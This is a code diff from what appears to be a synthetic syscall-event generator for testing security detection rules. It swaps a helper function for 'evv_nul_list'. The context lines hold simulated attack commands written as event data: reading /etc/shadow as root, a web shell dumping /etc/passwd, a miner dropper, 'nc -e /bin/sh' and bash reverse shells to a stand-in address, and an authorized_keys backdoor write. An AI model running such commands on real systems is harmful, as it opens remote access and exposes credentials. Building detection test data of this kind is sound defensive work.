@@ -703,16 +703,6 @@ struct tool {
 	const char *args; /* space-separated, turned into a NUL-separated blob */
 };
 
-static size_t blob(const char *spaced, char *out, size_t cap)
-{
-	size_t n = 0;
-	for (const char *p = spaced; *p && n + 1 < cap; p++)
-		out[n++] = *p == ' ' ? '\0' : *p;
-	if (n && n + 1 < cap)
-		out[n++] = '\0';
-	return n;
-}
-
 /* Runs one command as a child of PARENT: clone, stdio set-up, execve, ld.so, BODY's files, exit. */
 static void run_cmd(struct proc *parent, const char *name, const char *path, const char *args, bool pipeline,
 		    void (*body)(struct proc *c, const char *name))
@@ -720,7 +710,7 @@ static void run_cmd(struct proc *parent, const char *name, const char *path, con
 	static char ab[8][1024];
 	static int abk;
 	char *a = ab[abk++ & 7];
-	size_t al = blob(args, a, 1024);
+	size_t al = evv_nul_list(args, ' ', a, 1024);
 	int r = -1, w = -1;
 	if (pipeline)
 		e_pipe2(parent, &r, &w);
@@ -1019,7 +1009,7 @@ static void s_suspicious(void)
 	switch (rnd(10)) {
 	case 0: { /* sudo cat /etc/shadow (cat is not a shadow reader) */
 		struct proc c = e_clone(&P_bash, false);
-		al = blob("/etc/shadow", a, sizeof a);
+		al = evv_nul_list("/etc/shadow", ' ', a, sizeof a);
 		c.uid = 0;
 		e_execve(&c, "cat", "/usr/bin/cat", "cat", a, al, ENV_ALICE, sizeof ENV_ALICE - 1, 0);
 		e_ldso(&c, 0);
@@ -1034,7 +1024,7 @@ static void s_suspicious(void)
 	case 2: { /* web shell: a shell under gunicorn */
 		struct proc *w = &P_gunicorn_w[rnd(4)];
 		struct proc c = e_clone(w, false);
-		al = blob("-c id;uname -a;cat /etc/passwd", a, sizeof a);
+		al = evv_nul_list("-c id;uname -a;cat /etc/passwd", ' ', a, sizeof a);
 		e_execve(&c, "/bin/sh", "/bin/dash", "sh", a, al, ENV_CTR, sizeof ENV_CTR - 1, 0);
 		e_open_close(&c, "/etc/passwd", PPM_O_RDONLY);
 		e_procexit(&c);
@@ -1042,7 +1032,7 @@ static void s_suspicious(void)
 	}
 	case 3: { /* dropper in /tmp */
 		struct proc c = e_clone(&P_bash, false);
-		al = blob("-o stratum+tcp://pool.example:3333", a, sizeof a);
+		al = evv_nul_list("-o stratum+tcp://pool.example:3333", ' ', a, sizeof a);
 		e_execve(&c, "/tmp/.cache/kworkerd", "/tmp/.cache/kworkerd", "kworkerd", a, al, ENV_ALICE,
 			 sizeof ENV_ALICE - 1, 0);
 		int s = e_socket(&c, 2, 1, 6);
@@ -1054,7 +1044,7 @@ static void s_suspicious(void)
 	}
 	case 4: { /* nc -e */
 		struct proc c = e_clone(&P_bash, false);
-		al = blob("-e /bin/sh 198.51.100.7 4444", a, sizeof a);
+		al = evv_nul_list("-e /bin/sh 198.51.100.7 4444", ' ', a, sizeof a);
 		e_execve(&c, "nc", "/usr/bin/nc.traditional", "nc", a, al, ENV_ALICE, sizeof ENV_ALICE - 1, 0);
 		e_ldso(&c, 0);
 		int s = e_socket(&c, 2, 1, 6);
@@ -1070,7 +1060,7 @@ static void s_suspicious(void)
 		e_connect(&c, s, IP_HOST, d, 4444, 0);
 		for (int fd = 0; fd < 3; fd++)
 			e_dup2(&c, s, fd);
-		al = blob("-i", a, sizeof a);
+		al = evv_nul_list("-i", ' ', a, sizeof a);
 		e_execve(&c, "bash", "/usr/bin/bash", "bash", a, al, ENV_ALICE, sizeof ENV_ALICE - 1, 0);
 		e_procexit(&c);
 		break;
@@ -1085,7 +1075,7 @@ static void s_suspicious(void)
 		ev_begin(FC_PPME_SYSCALL_CLONE_20_X, c.tid);
 		clone_params(&P_shim_nginx, 0, &c, 0x20000000u | 0x1800000u);
 		ev_end();
-		al = blob("", a, sizeof a);
+		al = evv_nul_list("", ' ', a, sizeof a);
 		e_execve(&c, "bash", "/usr/bin/bash", "bash", a, al, ENV_CTR, sizeof ENV_CTR - 1, 0);
 		e_ldso(&c, 1);
 		e_open_close(&c, "/root/.bashrc", PPM_O_RDONLY);
@@ -1099,7 +1089,7 @@ static void s_suspicious(void)
 	case 8: { /* authorized_keys written as root */
 		struct proc c = e_clone(&P_bash, false);
 		c.uid = 0;
-		al = blob("-a /root/.ssh/authorized_keys", a, sizeof a);
+		al = evv_nul_list("-a /root/.ssh/authorized_keys", ' ', a, sizeof a);
 		e_execve(&c, "tee", "/usr/bin/tee", "tee", a, al, ENV_ALICE, sizeof ENV_ALICE - 1, 0);
 		e_open_close(&c, "/root/.ssh/authorized_keys", PPM_O_WRONLY | PPM_O_APPEND | PPM_O_CREAT);
 		e_procexit(&c);
